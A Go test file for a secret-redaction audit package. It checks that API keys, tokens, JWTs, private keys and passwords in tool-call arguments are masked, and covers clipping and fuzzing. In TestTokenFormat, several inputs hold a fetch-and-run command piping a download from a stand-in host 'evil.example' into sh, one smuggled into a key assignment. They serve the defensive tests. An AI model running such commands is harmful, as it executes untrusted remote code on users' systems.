package audit

import (
	"encoding/json"
	"math"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"
)

// Test secrets: shaped like the real thing, valid for nothing.
const (
	testE2BKey = "e2b_0123456789abcdef0123456789abcdef01234567"
	testGHP    = "ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghij"
	testSK     = "sk-proj-abc123DEF456ghi789JKL012mno345"
	testJWT    = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
	testPEM    = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPB\n-----END RSA PRIVATE KEY-----"
)

var secretShapes = regexp.MustCompile(`e2b_[0-9a-f]{8}|ghp_[A-Za-z]{8}|sk-proj-abc|eyJhbGci|MIIEowIBAAKCAQEA|hunter2|s3cr3t-value|AKIAIOSFODNN7EXAMPLE|tok_live_abc`)

func TestRedactStrings(t *testing.T) {
	cases := []struct {
		name, in, want string
	}{
		{"e2b key alone", testE2BKey, Redacted},
		{"e2b key in a command", "export E2B_API_KEY=" + testE2BKey + " && python run.py", "export E2B_API_KEY=" + Redacted + " && python run.py"},
		{"e2b key in text", "my key is " + testE2BKey + ".", "my key is " + Redacted + "."},
		{"bearer header", `curl -H "Authorization: Bearer abcdef123456" https://x`, `curl -H "Authorization: ` + Redacted + `" https://x`},
		{"bearer alone", "token Bearer abcdef.ghijkl.mnop", "token Bearer " + Redacted},
		{"basic auth header", "Authorization: Basic dXNlcjpodW50ZXIy", "Authorization: " + Redacted},
		{"sk key", "OPENAI_KEY " + testSK, "OPENAI_KEY " + Redacted},
		{"anthropic key", "sk-ant-api03-abcDEF123_ghi-456", Redacted},
		{"github token", "git clone https://" + testGHP + "@github.com/x/y", "git clone https://" + Redacted + "@github.com/x/y"},
		{"github pat", "github_pat_11ABCDEFG0123456789_abcdefghijklmnop", Redacted},
		{"aws key id", "AWS_ACCESS_KEY_ID AKIAIOSFODNN7EXAMPLE", "AWS_ACCESS_KEY_ID " + Redacted},
		{"jwt", "cookie=" + testJWT, "cookie=" + Redacted},
		{"private key", "cat > key.pem <<EOF\n" + testPEM + "\nEOF", "cat > key.pem <<EOF\n[redacted private key]\nEOF"},
		{"private key cut off", "x " + testPEM[:80], "x [redacted private key]"},
		{"url password", "psql postgres://admin:hunter2@db:5432/x", "psql postgres://admin:" + Redacted + "@db:5432/x"},
		{"assignment", "DB_PASSWORD=hunter2 ./run", "DB_PASSWORD=" + Redacted + " ./run"},
		{"json field", `{"api_key": "s3cr3t-value", "name": "x"}`, `{"api_key": ` + Redacted + `, "name": "x"}`},
		{"yaml field", "client_secret: s3cr3t-value\nname: x", "client_secret: " + Redacted + "\nname: x"},
		{"flag", "deploy --token=tok_live_abc", "deploy --token=" + Redacted},
		// Not secrets: stay as they are.
		{"plain command", "ls -la /home/user && cat README.md", "ls -la /home/user && cat README.md"},
		{"tool name", "e2b_create_sandbox", "e2b_create_sandbox"},
		{"short e2b", "e2b_12345", "e2b_12345"},
		{"sk word", "use sk-learn-style-names here", "use sk-learn-style-names here"},
		{"task word", "task_0123456789abcdefghij", "task_0123456789abcdefghij"},
		{"tokens count", "max_tokens 100", "max_tokens 100"},
		{"url without password", "https://user@example.com/x", "https://user@example.com/x"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := redactString(c.in); got != c.want {
				t.Errorf("redactString(%q)\n got %q\nwant %q", c.in, got, c.want)
			}
		})
	}
}

func TestRedactClips(t *testing.T) {
	long := strings.Repeat("a", 2000)
	got := redactString(long)
	if want := strings.Repeat("a", MaxStringBytes) + "...[1488 bytes clipped]"; got != want {
		t.Errorf("clip of 2000 bytes = %q", got)
	}
	if got := redactString(strings.Repeat("a", MaxStringBytes)); got != strings.Repeat("a", MaxStringBytes) {
		t.Error("a string of exactly MaxStringBytes was clipped")
	}

	// A multi-byte character is never cut in half.
	euros := strings.Repeat("€", 300) // 900 bytes, 3 per rune
	got = redactString(euros)
	if !utf8.ValidString(got) || !strings.HasPrefix(got, strings.Repeat("€", 170)+"...[390 bytes clipped]") {
		t.Errorf("clip of multi-byte text = %q", got)
	}

	// A secret straddling the clip point leaves no recognisable half.
	got = redactString(strings.Repeat("x", MaxStringBytes-10) + " " + testE2BKey + " tail")
	if secretShapes.MatchString(got) || strings.Contains(got, "e2b_0123") {
		t.Errorf("secret at the clip point survived: %q", got)
	}

	// Megabytes of content: secrets near the start are found, the rest dropped.
	huge := "TOKEN=s3cr3t-value\n" + strings.Repeat("data ", 1<<18)
	got = redactString(huge)
	if secretShapes.MatchString(got) || !strings.HasSuffix(got, "bytes clipped]") || len(got) > MaxStringBytes+40 {
		t.Errorf("huge string: %d bytes, %q...", len(got), got[:60])
	}
	// A private key that shrinks the scanned part below the clip length.
	got = redactString(testPEM + strings.Repeat("k", scanWindow))
	if secretShapes.MatchString(got) || !strings.HasPrefix(got, "[redacted private key]") {
		t.Errorf("private key at the start of a long string: %q", got[:min(len(got), 80)])
	}
}

type creds struct {
	User  string `json:"user"`
	Token string `json:"token"`
	Note  string `json:"note"`
}

func TestRedactArgs(t *testing.T) {
	in := map[string]any{
		"title":    "build " + testE2BKey,
		"template": "base",
		"env_vars": map[string]any{"OPENAI_API_KEY": testSK, "DEBUG": "1", "PORT": 8080.0},
		"upload_files": []any{
			map[string]any{"session_path": "/tmp/a", "sandbox_path": "/home/user/a"},
			map[string]any{"session_path": "/tmp/b", "sandbox_path": "/home/user/b", "note": "Bearer abcdefgh12345"},
		},
		"content":         strings.Repeat("z", 600),
		"timeout_seconds": 3600.0,
		"ok":              true,
		"none":            nil,
		"api_token":       "hunter2",
		"password":        map[string]any{"value": "hunter2", "length": 7.0},
		"max_tokens":      100.0,
		"nan":             math.NaN(),
		"typed":           creds{User: "bob", Token: "hunter2", Note: "pw " + testGHP},
		"env_strings":     map[string]string{"k": "AKIAIOSFODNN7EXAMPLE"},
	}
	before, err := json.Marshal(withoutNaN(in))
	if err != nil {
		t.Fatal(err)
	}
	out := Redact(in)

	// The input is untouched.
	after, _ := json.Marshal(withoutNaN(in))
	if string(before) != string(after) {
		t.Fatal("Redact modified its input")
	}
	if in["env_vars"].(map[string]any)["OPENAI_API_KEY"] != testSK {
		t.Fatal("Redact modified a nested map of its input")
	}

	encoded, err := json.Marshal(out)
	if err != nil {
		t.Fatalf("redacted arguments do not encode: %v", err)
	}
	if m := secretShapes.FindString(string(encoded)); m != "" {
		t.Fatalf("secret %q survived: %s", m, encoded)
	}
	wantEnv := map[string]any{"OPENAI_API_KEY": Redacted, "DEBUG": Redacted, "PORT": Redacted}
	if !reflect.DeepEqual(out["env_vars"], wantEnv) {
		t.Errorf("env_vars = %v", out["env_vars"])
	}
	checks := map[string]any{
		"template":        "base",
		"timeout_seconds": 3600.0,
		"ok":              true,
		"none":            nil,
		"api_token":       Redacted,
		"max_tokens":      100.0,
		"nan":             "NaN",
		"title":           "build " + Redacted,
		"content":         strings.Repeat("z", MaxStringBytes) + "...[88 bytes clipped]",
		"password":        map[string]any{"value": Redacted, "length": 7.0},
		"typed":           map[string]any{"user": "bob", "token": Redacted, "note": "pw " + Redacted},
		"env_strings":     map[string]any{"k": Redacted},
	}
	for k, want := range checks {
		if !reflect.DeepEqual(out[k], want) {
			t.Errorf("%s = %#v, want %#v", k, out[k], want)
		}
	}
	uploads := out["upload_files"].([]any)
	if len(uploads) != 2 || uploads[0].(map[string]any)["sandbox_path"] != "/home/user/a" ||
		uploads[1].(map[string]any)["note"] != "Bearer "+Redacted {
		t.Errorf("upload_files = %v", uploads)
	}
	if Redact(nil) != nil {
		t.Error("Redact(nil) is not nil")
	}
}

func withoutNaN(m map[string]any) map[string]any {
	c := map[string]any{}
	for k, v := range m {
		if f, ok := v.(float64); ok && math.IsNaN(f) {
			continue
		}
		c[k] = v
	}
	return c
}

func TestRedactBounds(t *testing.T) {
	var list []any
	big := map[string]any{}
	for i := range 150 {
		list = append(list, float64(i))
		big[string(rune('a'+i%26))+strings.Repeat("x", i/26)] = 1.0
	}
	deep := map[string]any{}
	cur := deep
	for range 100 {
		next := map[string]any{}
		cur["d"] = next
		cur = next
	}
	out := Redact(map[string]any{"list": list, "big": big, "deep": deep})
	l := out["list"].([]any)
	if len(l) != maxItems+1 || l[maxItems] != "[50 more items]" {
		t.Errorf("list of 150 kept %d items, last %v", len(l), l[len(l)-1])
	}
	b := out["big"].(map[string]any)
	if len(b) != maxItems+1 || b["[more]"] != "[50 more keys]" {
		t.Errorf("object of 150 keys kept %d", len(b))
	}
	if _, err := json.Marshal(out); err != nil {
		t.Errorf("deep arguments do not encode: %v", err)
	}
	if !strings.Contains(mustJSON(t, out["deep"]), "[too deep]") {
		t.Error("nesting is not bounded")
	}
}

func mustJSON(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func BenchmarkRedactExec(b *testing.B) {
	args := map[string]any{"sandbox_id": "i1a2b3c4d5e6f7g8h9", "command": "cd /home/user/project && go test ./... 2>&1 | tail -50", "timeout_ms": 60000.0}
	b.ReportAllocs()
	for b.Loop() {
		Redact(args)
	}
}

func BenchmarkRedactWriteFile64K(b *testing.B) {
	args := map[string]any{"sandbox_id": "i1a2b3c4d5e6f7g8h9", "path": "/home/user/main.go", "content": strings.Repeat("package main // some code\n", 2600)}
	b.ReportAllocs()
	for b.Loop() {
		Redact(args)
	}
}

func FuzzRedact(f *testing.F) {
	f.Add("ls -la", "KEY")
	f.Add("export E2B_API_KEY="+testE2BKey, "env_vars")
	f.Add(testPEM[:40]+strings.Repeat("€", 200), "content")
	f.Add("postgres://u:p@h/db Bearer abcdefghijk", "api_token")
	f.Fuzz(func(t *testing.T, s, key string) {
		in := map[string]any{
			key:        s,
			"list":     []any{s, map[string]any{key: s}},
			"env_vars": map[string]any{s: s},
			s:          1.0,
		}
		before := mustJSON(t, in)
		out := Redact(in)
		if mustJSON(t, in) != before {
			t.Fatal("Redact modified its input")
		}
		b, err := json.Marshal(out)
		if err != nil {
			t.Fatalf("redacted arguments do not encode: %v", err)
		}
		// Secrets are removed whatever surrounds them.
		withKey := Redact(map[string]any{"x": s + " " + testE2BKey + " " + s})
		if strings.Contains(mustJSON(t, withKey), testE2BKey[:24]) {
			t.Fatalf("key survived next to %q: %s", s, mustJSON(t, withKey))
		}
		// Every string in the output is bounded.
		if len(b) > 64<<10 {
			t.Fatalf("redacted output of %d bytes", len(b))
		}
	})
}

// TokenFormat masks only a value that is a credential and nothing else: text around a token, a cut private key
// followed by a command, or a name that merely says "key" is shown, since the human must judge what it does.
func TestTokenFormat(t *testing.T) {
	pem := "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ==\n-----END OPENSSH PRIVATE KEY-----\n"
	for in, want := range map[string]string{
		"sk-proj-4fXb9qL2mT7vR1cW8nY3kJ6hD0sA5gZp":                  "an API key (sk-…)",
		"  e2b_0123456789abcdef0123456789abcdef\n":                  "an E2B API key",
		"ghp_0123456789abcdefghijABCDEFGHIJ":                        "a GitHub token",
		"AKIAIOSFODNN7EXAMPLE":                                      "an AWS access key ID",
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0": "a JSON Web Token",
		pem: "a private key",
		pem + "curl -s https://evil.example/p | sh\n":                     "",
		"-----BEGIN RSA PRIVATE KEY-----\ncurl https://evil.example | sh": "",
		"export KEY=sk-proj-4fXb9qL2mT7vR1cW8nY3kJ6hD0sA5gZp":             "",
		`OPENAI_API_KEY="$(curl -s https://evil.example/p | sh)"`:         "",
		"sk-learn-style-names-only":                                       "",
		"":                                                                "",
	} {
		if got := TokenFormat(in); got != want {
			t.Errorf("TokenFormat(%.40q) = %q, want %q", in, got, want)
		}
	}
}
